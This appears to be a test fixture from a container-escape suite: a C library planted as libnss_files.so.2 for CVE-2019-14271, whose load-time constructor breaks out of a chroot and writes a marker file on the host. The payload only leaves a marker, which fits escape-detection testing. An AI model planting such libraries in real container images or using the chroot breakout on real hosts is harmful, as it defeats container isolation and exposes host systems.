/*
 * The planted library of the escape suite's CVE-2019-14271 case: a container puts it at
 * /lib/x86_64-linux-gnu/libnss_files.so.2 (and the other places glibc looks), hoping that
 * the engine's cp loads it into a host process that looks up a user inside the container's
 * root. Its constructor leaves the chroot such a process would be in (root can: chdir ".."
 * past a chroot made under the cwd) and writes MARKER (a host path, given at build time);
 * run inside the container, the same steps stay in the container's own root.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void mark(void) {
  int root = open("/", O_RDONLY | O_DIRECTORY);
  if (root >= 0 && mkdir("/.nss-marker-escape", 0700) == 0) {
    if (chroot("/.nss-marker-escape") == 0 && fchdir(root) == 0) {
      for (int i = 0; i < 64; i++) (void)!chdir("..");
      (void)!chroot(".");
    }
    unlinkat(root, ".nss-marker-escape", AT_REMOVEDIR);
  }
  if (root >= 0) close(root);
  int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd >= 0) {
    char line[64];
    int n = snprintf(line, sizeof line, "loaded in pid %d\n", (int)getpid());
    (void)!write(fd, line, (size_t)n);
    close(fd);
  }
}
